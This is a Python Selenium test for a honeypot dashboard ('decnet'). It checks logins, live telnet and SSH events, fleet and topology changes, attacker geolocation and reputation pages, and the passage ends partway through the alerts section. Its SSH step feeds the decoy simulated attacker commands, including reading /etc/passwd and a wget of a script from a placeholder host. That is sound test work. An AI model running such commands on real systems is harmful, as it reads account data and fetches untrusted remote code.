#!/usr/bin/env python3
"""Browser end-to-end test of the decnet dashboard in headless Chromium.

Driven by scripts/interop/dashboard.sh (which starts `decnet demo`). Walks
every page, saves screenshots to target/screenshots/, and fails on any
4xx/5xx the dashboard's own requests receive except the intentional ones
listed in INTENTIONAL, and on any console error (CSP violations included).
"""
import base64
import json
import os
import shutil
import socket
import sqlite3
import sys
import tempfile
import time
import traceback

import paramiko
from selenium import webdriver
from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support import expected_conditions as EC
from selenium.webdriver.support.ui import Select
from selenium.webdriver.support.ui import WebDriverWait

BASE = os.environ["DASH_URL"].rstrip("/")
DATA = os.environ["DASH_DATA"]
OFFSET = int(os.environ.get("DASH_OFFSET", "20000"))
SHOTS = os.environ.get("DASH_SHOTS", "target/screenshots")
NEW_PASSWORD = "dashboard-e2e-Pw1"
WEB01 = "127.0.50.10"
TELNET_SRC = "127.0.0.91"
SSH_SRC = "127.0.0.92"
# Not in the test geolocation databases: shown as "private".
PRIVATE_SRC = "127.0.0.93"

# (method, path prefix, status) the test provokes on purpose.
INTENTIONAL = {
    ("POST", "/api/v1/auth/login", 401),          # wrong password
    ("POST", "/api/v1/deckies/deploy", 422),      # INI with validator errors
    ("POST", "/api/v1/deckies/deploy", 400),      # structural INI error
    ("GET", "/api/v1/response/status", 503),      # demo fleet has no [response]
}
expired_phase = False
failures = []
requests_seen = {}
responses = []


def log(*a):
    print("[dashboard]", *a, flush=True)


def is_firefox(driver):
    return driver.capabilities.get("browserName") == "firefox"


def page_failures(driver):
    """What the dashboard itself recorded as failed requests and feed errors
    (the only record in Firefox, which has no performance log)."""
    try:
        got = driver.execute_script(
            "const f = (window.__decnetFailures || []).filter((x) => !x.expected);"
            "const e = window.__decnetErrors || [];"
            "window.__decnetFailures = []; window.__decnetErrors = [];"
            "return f.map((x) => `${x.method} ${x.path} -> ${x.status}`).concat(e);")
    except Exception:
        return []
    return [g for g in got or [] if not (expired_phase and "-> 401" in g)]


def drain(driver):
    """Collects network responses from the performance log."""
    if is_firefox(driver):
        failures.extend(f"page recorded: {x}" for x in page_failures(driver))
        return
    for entry in driver.get_log("performance"):
        try:
            msg = json.loads(entry["message"])["message"]
        except Exception:
            continue
        p = msg.get("params", {})
        if msg.get("method") == "Network.requestWillBeSent":
            requests_seen[p["requestId"]] = p["request"]["method"]
        elif msg.get("method") == "Network.responseReceived":
            r = p["response"]
            if not r["url"].startswith(BASE):
                continue
            path = r["url"][len(BASE):].split("?")[0]
            method = requests_seen.get(p["requestId"], "GET")
            responses.append((method, path, r["status"], expired_phase))
            if r["status"] >= 400:
                log(f"  (response {method} {path} -> {r['status']}; expired phase: {expired_phase})")
    for entry in driver.get_log("browser"):
        if entry.get("level") == "SEVERE":
            text = entry.get("message", "")
            # Chromium logs every failed fetch/XHR as a console error; those
            # are judged by status above, not here.
            if "Failed to load resource: the server responded with a status of" in text:
                continue
            failures.append(f"console error: {text}")


def shot(driver, name):
    """A full-page screenshot (beyond the viewport) via the DevTools protocol."""
    drain(driver)
    path = os.path.join(SHOTS, f"{name}.png")
    driver.execute_script("window.scrollTo(0, 0)")
    time.sleep(0.3)
    if is_firefox(driver):
        driver.get_full_page_screenshot_as_file(path)
        log("screenshot", path)
        return
    try:
        m = driver.execute_cdp_cmd("Page.getLayoutMetrics", {})
        size = m.get("cssContentSize") or m["contentSize"]
        vp = m.get("cssLayoutViewport") or m["layoutViewport"]
        h = min(max(size["height"], vp["clientHeight"]), 6000)
        data = driver.execute_cdp_cmd("Page.captureScreenshot", {
            "format": "png", "captureBeyondViewport": True,
            "clip": {"x": 0, "y": 0, "width": vp["clientWidth"], "height": h, "scale": 1}})
        with open(path, "wb") as f:
            f.write(base64.b64decode(data["data"]))
    except Exception as e:  # fall back to the viewport
        log("full-page screenshot failed:", e)
        driver.save_screenshot(path)
    log("screenshot", path)


def click(driver, el):
    """Clicks like a user would, but never blocked by the sticky header."""
    driver.execute_script("arguments[0].scrollIntoView({block: 'center'}); arguments[0].click();", el)


def click_button(driver, scope, label):
    """Clicks the button labelled `label` inside the elements matching the CSS
    `scope`, finding it again if a live redraw replaces it."""
    fresh(lambda: click(driver, next(b for b in driver.find_elements(By.CSS_SELECTOR, f"{scope} button")
                                     if b.text == label)), f"{label} button")


def fresh(fn, what="", timeout=10):
    """Runs a find-and-act step again when a live redraw replaced (or had not
    yet drawn) the element between finding it and acting on it: pages
    re-render on stream events."""
    end = time.time() + timeout
    while True:
        try:
            return fn()
        except (StaleElementReferenceException, NoSuchElementException, StopIteration):
            if time.time() > end:
                raise AssertionError(f"element kept going stale or missing: {what}")
            time.sleep(0.2)


def wait(driver, cond, timeout=20, what=""):
    try:
        return WebDriverWait(driver, timeout, poll_frequency=0.2,
                             ignored_exceptions=(NoSuchElementException, StaleElementReferenceException)).until(cond)
    except Exception:
        shot(driver, f"FAILED-{what or 'wait'}".replace(" ", "_"))
        raise AssertionError(f"timed out waiting for: {what}")


def css(sel):
    return EC.presence_of_element_located((By.CSS_SELECTOR, sel))


def visible(sel):
    return EC.visibility_of_element_located((By.CSS_SELECTOR, sel))


def text_in(sel, text):
    return EC.text_to_be_present_in_element((By.CSS_SELECTOR, sel), text)


def goto(driver, path, h1=None):
    """Client-side navigation through a nav link when there is one (keeps the SPA state)."""
    links = driver.find_elements(By.CSS_SELECTOR, f'nav.side a[href="{path}"]')
    if links:
        driver.execute_script("arguments[0].click()", links[0])
    else:
        driver.get(BASE + path)
    if h1:
        wait(driver, text_in("main h1", h1), what=f"page {path}")


def telnet_attempt(user, password, src=None):
    """A telnet login attempt from TELNET_SRC (raw socket; IAC negotiation refused)."""
    s = socket.socket()
    s.bind((src or TELNET_SRC, 0))
    s.settimeout(5)
    s.connect((WEB01, 23 + OFFSET))

    def read_until(words, limit=3.0):
        buf = b""
        end = time.time() + limit
        while time.time() < end:
            try:
                chunk = s.recv(4096)
            except socket.timeout:
                break
            if not chunk:
                break
            # Answer DO/WILL with WONT/DONT.
            i = 0
            out = b""
            while i < len(chunk):
                if chunk[i] == 255 and i + 2 < len(chunk) and chunk[i + 1] in (251, 252, 253, 254):
                    cmd = chunk[i + 1]
                    out += bytes([255, 252 if cmd == 253 else 254, chunk[i + 2]])
                    i += 3
                else:
                    buf += chunk[i:i + 1]
                    i += 1
            if out:
                s.sendall(out)
            if any(w in buf.lower() for w in words):
                break
        return buf

    read_until([b"login:"])
    s.sendall(user.encode() + b"\r\n")
    read_until([b"password:"])
    s.sendall(password.encode() + b"\r\n")
    read_until([b"incorrect", b"$", b"#"], 4.0)
    s.close()


def ssh_session():
    """An SSH login as the demo's ubuntu/admin with a shell session (→ transcript)."""
    sock = socket.socket()
    sock.bind((SSH_SRC, 0))
    sock.settimeout(10)
    sock.connect((WEB01, 22 + OFFSET))
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        c.connect(WEB01, port=22 + OFFSET, username="root", password="wrong-one", sock=sock,
                  allow_agent=False, look_for_keys=False, timeout=10, banner_timeout=10, auth_timeout=10)
    except paramiko.AuthenticationException:
        pass
    sock = socket.socket()
    sock.bind((SSH_SRC, 0))
    sock.settimeout(10)
    sock.connect((WEB01, 22 + OFFSET))
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect(WEB01, port=22 + OFFSET, username="ubuntu", password="admin", sock=sock,
              allow_agent=False, look_for_keys=False, timeout=10, banner_timeout=10, auth_timeout=10)
    ch = c.invoke_shell(width=100, height=30)
    time.sleep(1.0)
    for cmd in ["id", "uname -a", "cat /etc/passwd | head -3", "wget http://203.0.113.9/x.sh", "exit"]:
        ch.send(cmd + "\n")
        time.sleep(0.6)
    end = time.time() + 5
    while time.time() < end and not ch.exit_status_ready():
        if ch.recv_ready():
            ch.recv(65536)
        time.sleep(0.1)
    c.close()


def login(d, user, password):
    d.get(BASE + "/login")
    wait(d, visible("#password"), what="login form")
    d.find_element(By.ID, "username").clear()
    d.find_element(By.ID, "username").send_keys(user)
    d.find_element(By.ID, "password").send_keys(password + Keys.ENTER)
    wait(d, text_in("main h1", "Overview"), what=f"overview after {user} logs in")


def streams_the_api_still_grants(token, port_host):
    """Opens /api/v1/stream as the dashboard's user until the API refuses
    one (429): how many of the per-user stream slots the browser left."""
    import http.client
    host, port = port_host
    held = []
    try:
        for _ in range(10):
            c = http.client.HTTPConnection(host, port, timeout=5)
            c.request("GET", "/api/v1/stream", headers={"Authorization": f"Bearer {token}", "Accept": "text/event-stream"})
            r = c.getresponse()
            if r.status != 200:
                c.close()
                assert r.status == 429, f"stream refused with {r.status}"
                break
            held.append(c)
        return len(held)
    finally:
        for c in held:
            c.close()


def browser_streams(token, settle=20):
    """Streams this browser holds (the API's 5 per user minus what it still
    grants), once the count is steady: a connection a closing page or
    worker dropped keeps its slot until the server next writes to it (a
    keepalive within 15 s)."""
    api = ("127.0.0.1", int(BASE.rsplit(":", 1)[1]))
    end = time.time() + settle
    while True:
        held = 5 - streams_the_api_still_grants(token, api)
        if held == 1 or time.time() > end:
            return held
        time.sleep(2)


def three_tabs_for_a_minute(d):
    """Three tabs on different pages for 60 s under live traffic: every tab
    stays live (no reconnecting, no refused stream) and draws new events,
    and the browser holds one stream however many tabs are open."""
    login(d, "admin", NEW_PASSWORD)
    pages = [("/", "#latest-events"), ("/logs", "#log-rows"), (f"/attackers/{SSH_SRC}", "#timeline")]
    d.get(BASE + pages[0][0])
    wait(d, text_in("#live-state", "live"), what="tab 1 live")
    tabs = [d.current_window_handle]
    for path, _ in pages[1:]:
        d.switch_to.new_window("tab")
        d.get(BASE + path)
        wait(d, text_in("#live-state", "live"), what=f"tab {path} live")
        tabs.append(d.current_window_handle)
    token = d.execute_script("return localStorage.getItem('decnet.token')")
    # The API grants 5 streams per user: three tabs must hold one of them.
    held = browser_streams(token)
    if held != 1:
        failures.append(f"three tabs: the browser holds {held} streams (want one for every tab)")
    end = time.time() + 60
    n = 0
    last_src = None
    while time.time() < end:
        n += 1
        last_src = f"127.0.0.{100 + n % 100}"
        telnet_attempt(f"tab{n}", "x", last_src)
        if n % 3 == 0:
            telnet_attempt(f"tab{n}", "y", SSH_SRC)
        if n % 4 == 0:
            for h in tabs:
                d.switch_to.window(h)
                state = d.find_element(By.ID, "live-state").text
                if state != "live":
                    failures.append(f"three tabs: {d.current_url} showed {state!r} at {int(60 - (end - time.time()))} s")
        time.sleep(1.5)
    # Every tab drew what arrived in the last seconds.
    for h, (path, sel) in zip(tabs, pages):
        d.switch_to.window(h)
        want = SSH_SRC if path.startswith("/attackers/") else last_src
        if path.startswith("/attackers/"):
            wait(d, lambda x: "tab" in x.find_element(By.CSS_SELECTOR, sel).text or "telnet" in x.find_element(By.CSS_SELECTOR, sel).text, what="attacker tab drew live telnet events")
        else:
            wait(d, text_in(sel, want), what=f"{path} drew the last live event")
        assert d.find_element(By.ID, "live-state").text == "live", f"{path}: {d.find_element(By.ID, 'live-state').text}"
        failures.extend(f"three tabs {path}: {x}" for x in page_failures(d))
    held = browser_streams(token)
    if held != 1:
        failures.append(f"three tabs after a minute: the browser holds {held} streams (want 1)")
    log(f"three tabs for a minute: {n} telnet attempts, every tab live, one stream")
    shot(d, "23-three-tabs-attacker")
    for h in tabs[1:]:
        d.switch_to.window(h)
        d.close()
    d.switch_to.window(tabs[0])


def run_firefox(d):
    """The main flows again in Firefox, against the server the Chromium run
    left (admin password already changed): login, live events, logs filter,
    attackers with their places, detail and replay, the world map, every page."""
    login(d, "admin", NEW_PASSWORD)
    wait(d, css("#counters .counter"), what="counters")
    wait(d, text_in("#live-state", "live"), what="live stream connected")
    src = "127.0.0.94"
    telnet_attempt("firefox", "fox-pass", src)
    wait(d, text_in("#latest-events", src), timeout=20, what="live telnet event on overview")
    shot(d, "ff-01-overview")
    goto(d, "/logs", "Live logs")
    d.find_element(By.CSS_SELECTOR, 'input[name="src_ip"]').send_keys(src + Keys.ENTER)
    wait(d, lambda x: all(src in r.text for r in x.find_elements(By.CSS_SELECTOR, "#log-rows tr")), what="filtered rows")
    telnet_attempt("firefox2", "fox-live", src)
    wait(d, lambda x: "fox-live" in x.find_element(By.ID, "log-rows").text, what="live row on logs page")
    goto(d, "/attackers", "Attackers")
    wait(d, text_in("#attackers", SSH_SRC), what="attacker list")
    wait(d, lambda x: any(SSH_SRC in r.text and "AS64505" in r.text for r in x.find_elements(By.CSS_SELECTOR, "#attackers tbody tr")), what="ASN in the list")
    shot(d, "ff-02-attackers")
    d.get(BASE + f"/attackers/{SSH_SRC}")
    wait(d, text_in("#attacker-country", "US"), what="country on the attacker page")
    wait(d, css("#transcripts .replay-btn"), timeout=20, what="transcript listed")
    click(d, d.find_element(By.CSS_SELECTOR, "#transcripts .replay-btn"))
    wait(d, lambda x: "uname" in x.find_element(By.CSS_SELECTOR, "#replay pre.term").text, timeout=20, what="replay")
    shot(d, "ff-03-attacker")
    goto(d, "/", "Overview")
    wait(d, css('#world-map svg path.hit[data-country="US"]'), timeout=30, what="US on the world map")
    shot(d, "ff-04-world-map")
    for path, h1, sel in [
        ("/credentials", "Credentials", "#credentials table"),
        ("/identities", "Identities", "#identities table"),
        ("/fleet", "Fleet", '#deckies tr[data-decky="web01"]'),
        ("/canary", "Canary tokens", "#canary-tokens table"),
        ("/attack", "ATT&CK", "#attack-rules table"),
        ("/alerts", "Alerts", "#alert-rules table"),
        ("/response", "Active response", "#response-off"),
    ]:
        goto(d, path, h1)
        wait(d, css(sel), what=f"{path} content")
    drain(d)


def seed_enrichment(ip):
    """Stores AbuseIPDB and GreyNoise answers about `ip` as the enrichment worker would."""
    db = sqlite3.connect(os.path.join(DATA, "decnet.db"), timeout=10)
    now = int(time.time() * 1_000_000)
    answers = [
        ("abuseipdb", 87, {"abuseConfidenceScore": 87, "totalReports": 412, "countryCode": "US", "isp": "Example Hosting",
                           "usageType": "Data Center/Web Hosting/Transit", "lastReportedAt": "2026-12-01T10:00:00+00:00"}),
        ("greynoise", None, {"noise": True, "riot": False, "classification": "malicious", "name": "Mirai",
                             "last_seen": "2026-12-01", "seen": True}),
    ]
    with db:
        for provider, score, data in answers:
            db.execute("INSERT OR REPLACE INTO enrichment (ip, provider, fetched_at, score, data) VALUES (?, ?, ?, ?, ?)",
                       (ip, provider, now, score, json.dumps(data)))
    db.close()


def main():
    os.makedirs(SHOTS, exist_ok=True)
    if os.environ.get("DASH_BROWSER") == "firefox":
        return main_firefox()
    opts = webdriver.ChromeOptions()
    profile = tempfile.mkdtemp(prefix="decnet-chromium-")
    for a in ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
              "--disable-background-networking", "--disable-component-update", "--disable-sync",
              "--disable-dev-shm-usage", "--window-size=1280,800",
              f"--user-data-dir={profile}"]:
        opts.add_argument(a)
    if os.environ.get("CHROMIUM_BIN"):
        opts.binary_location = os.environ["CHROMIUM_BIN"]
    opts.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
    service = webdriver.ChromeService(executable_path=os.environ.get("CHROMEDRIVER", "/usr/bin/chromedriver"))
    try:
        drive(webdriver.Chrome(options=opts, service=service), run, three_tabs_for_a_minute)
    finally:
        shutil.rmtree(profile, ignore_errors=True)


def main_firefox():
    opts = webdriver.FirefoxOptions()
    opts.add_argument("-headless")
    opts.set_preference("browser.shell.checkDefaultBrowser", False)
    if os.environ.get("FIREFOX_BIN"):
        opts.binary_location = os.environ["FIREFOX_BIN"]
    service = webdriver.FirefoxService(executable_path=os.environ.get("GECKODRIVER", shutil.which("geckodriver") or "geckodriver"))
    drive(webdriver.Firefox(options=opts, service=service), run_firefox)


def drive(driver, *stages):
    """Runs the stages in one browser, then judges every request it saw."""
    driver.set_window_size(1280, 800)
    try:
        for stage in stages:
            stage(driver)
    finally:
        try:
            drain(driver)
        except Exception:
            pass
        driver.quit()
    report()


def report():
    unexpected = []
    for method, path, status, expired in responses:
        if status < 400:
            continue
        if (method, path, status) in INTENTIONAL:
            continue
        if expired and status == 401:
            continue
        unexpected.append(f"{method} {path} -> {status}")
    log(f"{len(responses)} responses from the dashboard's origin, {len(unexpected)} unexpected errors")
    for u in unexpected:
        failures.append(f"request failed: {u}")
    if failures:
        for f in failures:
            log("FAIL:", f)
        sys.exit(1)
    log("PASS")


def confirm_dialog(d):
    """Accepts the page's confirmation dialog (destructive actions ask first)."""
    wait(d, visible("#confirm-ok"), what="confirmation dialog")
    d.find_element(By.ID, "confirm-ok").click()


def run(d):
    global expired_phase
    generated = open(os.path.join(DATA, "admin-password")).read().strip()

    # --- login: a wrong password shows the API's detail, then the forced change.
    d.get(BASE + "/")
    wait(d, lambda x: "/login" in x.current_url, what="redirect to /login")
    wait(d, visible("#password"), what="login form")
    shot(d, "01-login")
    d.find_element(By.ID, "username").clear()
    d.find_element(By.ID, "username").send_keys("admin")
    d.find_element(By.ID, "password").send_keys("not-the-password" + Keys.ENTER)
    wait(d, css("#login-form .error"), what="wrong-password error")
    err = d.find_element(By.CSS_SELECTOR, "#login-form .error").text
    # The API's words, not a status code.
    assert "Incorrect username or password" in err and "401" not in err, err
    shot(d, "02-login-wrong-password")
    d.find_element(By.ID, "password").clear()
    d.find_element(By.ID, "password").send_keys(generated + Keys.ENTER)
    wait(d, visible("#new-password"), what="forced password change form")
    shot(d, "03-forced-password-change")
    d.find_element(By.ID, "new-password").send_keys(NEW_PASSWORD)
    d.find_element(By.ID, "new-password2").send_keys(NEW_PASSWORD + Keys.ENTER)
    wait(d, text_in("main h1", "Overview"), what="overview after password change")
    wait(d, css("#counters .counter"), what="counters")
    wait(d, text_in("#live-state", "live"), what="live stream connected")
    shot(d, "04-overview")

    # --- a live event appears after a telnet and an SSH login attempt.
    telnet_attempt("root", "hunter2")
    wait(d, text_in("#latest-events", TELNET_SRC), timeout=20, what="live telnet event on overview")
    ssh_session()
    wait(d, text_in("#latest-events", SSH_SRC), timeout=20, what="live ssh event on overview")
    wait(d, lambda x: any("auth_attempt" in r.text for r in x.find_elements(By.CSS_SELECTOR, "#latest-events tr")), what="auth_attempt row on overview")
    shot(d, "05-overview-live-events")

    # --- live logs: filters and follow.
    goto(d, "/logs", "Live logs")
    wait(d, text_in("#log-rows", TELNET_SRC), what="logs page rows")
    src = d.find_element(By.CSS_SELECTOR, 'input[name="src_ip"]')
    src.send_keys(TELNET_SRC + Keys.ENTER)
    wait(d, lambda x: all(TELNET_SRC in r.text for r in x.find_elements(By.CSS_SELECTOR, "#log-rows tr")), what="filtered rows")
    telnet_attempt("admin", "letmein")
    wait(d, lambda x: "letmein" in x.find_element(By.ID, "log-rows").text, what="live row on logs page")
    shot(d, "06-live-logs")
    d.find_element(By.ID, "pause").click()
    wait(d, text_in("#pause", "Resume"), what="paused")
    d.find_element(By.ID, "pause").click()

    # --- fleet: validator errors on their lines, then a deploy from the INI editor.
    goto(d, "/fleet", "Fleet")
    wait(d, css('#deckies tr[data-decky="web01"]'), what="fleet table")
    ed = d.find_element(By.ID, "ini-editor")
    ed.clear()
    ed.send_keys("[general]\nnet = 127.0.212.0/24\nmode = loopback\n\n[lab01]\nip = 127.0.212.10\nservices = ssh, nosuchproto\n")
    click(d, d.find_element(By.ID, "deploy-btn"))
    wait(d, css("#deploy-result .error"), what="INI validation errors")
    res = d.find_element(By.ID, "deploy-result").text
    assert "line 7" in res and "nosuchproto" in res, res
    assert d.find_elements(By.CSS_SELECTOR, ".gutter .bad"), "error line not marked in the gutter"
    shot(d, "07-fleet-ini-errors")
    ed.clear()
    ed.send_keys("[general]\nnet = 127.0.212.0/24\nmode = loopback\n\n[lab01]\nip = 127.0.212.10\nservices = ssh, http\n")
    click(d, d.find_element(By.ID, "deploy-btn"))
    wait(d, text_in("#deploy-result", "Accepted: lab01"), what="deploy accepted")
    wait(d, text_in('#deckies tr[data-decky="lab01"]', "running"), timeout=30, what="lab01 running")
    lab01 = '#deckies tr[data-decky="lab01"]'
    before = fresh(lambda: d.find_element(By.CSS_SELECTOR, lab01).text, "lab01 row")
    click_button(d, lab01, "Mutate")
    confirm_dialog(d)
    wait(d, lambda x: "gen 1" in x.find_element(By.CSS_SELECTOR, lab01).text, what="lab01 mutated (generation 1)")
    wait(d, lambda x: x.find_element(By.CSS_SELECTOR, lab01).text != before, what="lab01 row changed by the mutation")
    shot(d, "08-fleet-deployed")
    # Teardown (confirm dialog) removes the row.
    click_button(d, lab01, "Teardown")
    confirm_dialog(d)
    wait(d, lambda x: not x.find_elements(By.CSS_SELECTOR, '#deckies tr[data-decky="lab01"]'), timeout=20, what="lab01 torn down")

    # --- topologies: create, deploy (status changes live), a mutation applied live.
    goto(d, "/topologies", "Topologies")
    name = d.find_element(By.ID, "topo-name")
    name.clear()
    name.send_keys("e2e-lab")
    click(d, d.find_element(By.ID, "topo-create"))
    wait(d, text_in("main h1", "e2e-lab"), what="topology page")
    wait(d, text_in("#topo-status", "pending"), what="pending status")
    wait(d, lambda x: "live" in x.find_element(By.CSS_SELECTOR, "main .live-dot").text, what="topology stream live")
    shot(d, "09-topology-pending")
    fresh(lambda: click(d, d.find_element(By.ID, "topo-deploy")), "Deploy button")
    wait(d, lambda x: x.find_element(By.ID, "topo-status").get_attribute("data-status") == "active", timeout=30, what="topology active (live)")
    wait(d, text_in("#topo-feed", "active"), what="status event in the live feed")
    # Queue an add_decky mutation through the dialog.
    click_button(d, "main .actions", "+ Decky")
    dlg = wait(d, visible("dialog.modal"), what="add decky dialog")
    dlg.find_element(By.NAME, "name").send_keys("app02")
    dlg.find_element(By.NAME, "ip").send_keys("127.0.213.11")
    dlg.find_element(By.NAME, "services").clear()
    dlg.find_element(By.NAME, "services").send_keys("telnet")
    dlg.find_element(By.CSS_SELECTOR, 'button[type="submit"]').click()
    wait(d, css('#topo-graph g[data-decky="app02"]'), timeout=30, what="app02 in the graph after mutation")
    wait(d, text_in("#mutations", "applied"), what="mutation applied")
    wait(d, text_in("#topo-feed", "mutation"), what="mutation event in the live feed")
    select_app02 = lambda: d.execute_script("arguments[0].dispatchEvent(new MouseEvent('click', {bubbles: true}))", d.find_element(By.CSS_SELECTOR, '#topo-graph g[data-decky="app02"]'))
    fresh(select_app02, "app02 node")
    wait(d, text_in("#topo-side", "Decky app02"), what="decky selected")
    # Add a service to the live topology decky, then drop a file into it.
    fresh(lambda: click(d, d.find_element(By.ID, "svc-add")), "+ Service button")
    dlg = wait(d, visible("dialog.modal"), what="add service dialog")
    # The picker lists the service catalogue (GET /services) minus what runs.
    Select(dlg.find_element(By.NAME, "name")).select_by_value("ftp")
    dlg.find_element(By.CSS_SELECTOR, 'button[type="submit"]').click()
    wait(d, text_in("#topo-side .chips", "ftp"), timeout=20, what="ftp service on app02")
    wait(d, text_in("#topo-feed", "service_added"), what="service_added event in the live feed")
    click_button(d, "#topo-side", "Drop file")
    wait(d, visible("#topo-side .drop-form"), what="file drop form")

    def fill_drop_form():
        form = d.find_element(By.CSS_SELECTOR, "#topo-side .drop-form")
        path = form.find_element(By.NAME, "path")
        path.clear()
        path.send_keys("/root/e2e-note.txt")
        text = form.find_element(By.NAME, "text")
        text.clear()
        text.send_keys("dropped by the dashboard e2e test\n")
    fresh(fill_drop_form, "file drop form fields")
    # A live redraw of the side panel keeps the open form and what was typed.
    fresh(select_app02, "app02 node")
    wait(d, lambda x: x.find_element(By.CSS_SELECTOR, '#topo-side .drop-form input[name="path"]').get_attribute("value") == "/root/e2e-note.txt", what="typed path kept across a redraw")
    fresh(lambda: click(d, d.find_element(By.CSS_SELECTOR, '#topo-side .drop-form button[type="submit"]')), "drop submit")
    wait(d, text_in("#toasts", "Dropped /root/e2e-note.txt into app02"), what="file drop confirmed")
    shot(d, "10-topology-active-mutated")

    # --- attackers: list (located by the test geolocation databases), detail, SSH session replay.
    telnet_attempt("guest", "guest", PRIVATE_SRC)
    goto(d, "/attackers", "Attackers")
    wait(d, text_in("#attackers", SSH_SRC), what="attacker list")
    wait(d, text_in("#attackers", PRIVATE_SRC), what="the private-address attacker listed")

    def row_of(ip):
        return next(r for r in d.find_elements(By.CSS_SELECTOR, "#attackers tbody tr") if ip in r.text)
    wait(d, lambda x: "US" in row_of(SSH_SRC).text and "AS64505" in row_of(SSH_SRC).text, what="SSH attacker's country and ASN in the list")
    wait(d, lambda x: "NL" in row_of(TELNET_SRC).text and "AS64504 Example Cloud NL" in row_of(TELNET_SRC).text, what="telnet attacker's country and ASN")
    wait(d, lambda x: "private" in row_of(PRIVATE_SRC).text, what="loopback attacker shown as private")
    # The country filter lists located countries and narrows the list.
    wait(d, lambda x: any(o.get_attribute("value") == "NL" for o in x.find_elements(By.CSS_SELECTOR, "#country-filter option")), what="NL in the country filter")
    Select(d.find_element(By.ID, "country-filter")).select_by_value("NL")
    wait(d, lambda x: "country=NL" in x.current_url and SSH_SRC not in x.find_element(By.ID, "attackers").text
         and TELNET_SRC in x.find_element(By.ID, "attackers").text, what="attackers filtered to NL")
    Select(d.find_element(By.ID, "country-filter")).select_by_value("")
    wait(d, text_in("#attackers", SSH_SRC), what="filter cleared")
    shot(d, "11-attackers")
    drain(d)
    before_detail = len(responses)
    click(d, wait(d, EC.element_to_be_clickable((By.LINK_TEXT, SSH_SRC)), what="attacker link"))
    wait(d, text_in("main h1", f"Attacker {SSH_SRC}"), what="attacker detail")
    wait(d, text_in("#ban-state", "Active response off"), what="ban state on the attacker page")
    wait(d, text_in("#attacker-country", "US"), what="country on the attacker page")
    assert "Ashburn" in d.find_element(By.ID, "attacker-country").text
    assert d.find_element(By.ID, "attacker-network").text == "AS64505 Example Datacenter US", d.find_element(By.ID, "attacker-network").text
    wait(d, text_in("#attacker-creds", "ubuntu"), what="credentials tried on detail page")
    wait(d, css("#transcripts .replay-btn"), timeout=20, what="transcript listed")
    click(d, d.find_element(By.CSS_SELECTOR, "#transcripts .replay-btn"))
    wait(d, lambda x: "uname" in x.find_element(By.CSS_SELECTOR, "#replay pre.term").text, timeout=20, what="replayed session shows the commands")
    shot(d, "12-attacker-detail-replay")
    # Active response is asked about once per page view, and with it off
    # the page never asks for bans (live refreshes included).
    drain(d)
    on_page = [(m, p) for m, p, _, _ in responses[before_detail:]]
    status_calls = on_page.count(("GET", "/api/v1/response/status"))
    ban_calls = on_page.count(("GET", "/api/v1/response/bans"))
    if (status_calls, ban_calls) != (1, 0):
        failures.append(f"attacker page: {status_calls} /response/status and {ban_calls} /response/bans requests (want 1 and 0)")

    # --- reputation (online enrichment): the demo's attackers come from
    # loopback, which is never looked up, so answers are written into the
    # store's `enrichment` table as the worker writes them; the API serves
    # them and the pages must show them.
    seed_enrichment(SSH_SRC)
    d.get(BASE + f"/attackers/{SSH_SRC}")
    wait(d, text_in("#attacker-abuse-score", "87%"), what="AbuseIPDB score on the attacker page")
    assert "412 reports" in d.find_element(By.ID, "attacker-abuse-score").text
    wait(d, text_in("#attacker-greynoise", "malicious"), what="GreyNoise classification on the attacker page")
    assert "Mirai" in d.find_element(By.ID, "attacker-greynoise").text
    shot(d, "12b-attacker-reputation")
    goto(d, "/attackers", "Attackers")
    Select(d.find_element(By.ID, "score-filter")).select_by_value("75")
    wait(d, lambda x: "min_score=75" in x.current_url and SSH_SRC in x.find_element(By.ID, "attackers").text
         and TELNET_SRC not in x.find_element(By.ID, "attackers").text, what="attackers filtered by abuse score")
    assert "87%" in next(r for r in d.find_elements(By.CSS_SELECTOR, "#attackers tbody tr") if SSH_SRC in r.text).text
    Select(d.find_element(By.ID, "score-filter")).select_by_value("")
    wait(d, text_in("#attackers", TELNET_SRC), what="score filter cleared")

    # --- the overview's world map: located countries drawn and listed, a country opens its attackers.
    goto(d, "/", "Overview")
    wait(d, css('#world-map svg path.hit[data-country="US"]'), timeout=30, what="US on the world map")
    assert d.find_elements(By.CSS_SELECTOR, '#world-map svg path.hit[data-country="NL"]'), "NL not on the map"
    assert not d.find_elements(By.CSS_SELECTOR, '#world-map svg path.hit[data-country="DE"]'), "a country without attackers is marked"
    label = d.find_element(By.CSS_SELECTOR, "#world-map svg").get_attribute("aria-label")
    assert "2 located attackers from 2 countries, 1 private" in label, label
    origins = d.find_element(By.ID, "world-map").text
    assert "Netherlands" in origins and "United States" in origins and "private" in origins, origins
    shot(d, "11b-overview-world-map")
    d.execute_script("arguments[0].dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))",
                     d.find_element(By.CSS_SELECTOR, '#world-map svg a path[data-country="NL"]'))
    wait(d, lambda x: "/attackers" in x.current_url and "country=NL" in x.current_url, what="map click opens the country's attackers")
    wait(d, text_in("#attackers", TELNET_SRC), what="NL attackers listed")

    # --- the remaining pages render without errors.
    for path, h1, shotname, sel in [
        ("/credentials", "Credentials", "13-credentials", "#credentials table"),
        ("/identities", "Identities", "14-identities", "#identities table"),
        ("/bounty", "Bounty", "15-bounty", "#bounty table"),
        ("/response", "Active response", "16-response", "#response-off"),
        ("/canary", "Canary tokens", "16b-canary", "#canary-tokens table"),
        ("/attack", "ATT&CK", "16c-attack", "#attack-rules table"),
        ("/webhooks", "Webhooks", "17-webhooks", "#webhooks table"),
        ("/users", "Users", "18-users", "#users table"),
    ]:
        goto(d, path, h1)
        wait(d, css(sel), what=f"{path} content")
        shot(d, shotname)

    # --- alerts: the SSH login above raised login_success; rules and channels listed.
    goto(d, "/alerts", "Alerts")
    wait(d, css("#alert-rules table"), what="alert rules")
    wait(d, text_in("#alert-history", "login_success"), timeout=20, what="the SSH login in the alert history")
    shot(d, "17b-alerts")
    # An admin adds a custom rule through the form (stored, applied at once),
    # then deletes it.
    click(d, d.find_element(By.ID, "alerts-edit-rule"))
